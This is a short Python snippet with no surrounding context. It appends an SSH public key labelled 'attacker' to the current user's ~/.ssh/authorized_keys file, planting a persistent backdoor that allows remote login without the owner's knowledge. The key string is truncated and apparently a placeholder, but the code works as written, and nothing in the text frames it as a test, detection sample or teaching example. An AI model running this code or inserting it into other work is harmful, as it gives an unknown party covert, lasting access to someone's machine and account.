import os

with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as fh:
    fh.write("ssh-ed25519 AAAAC3Nza attacker\n")
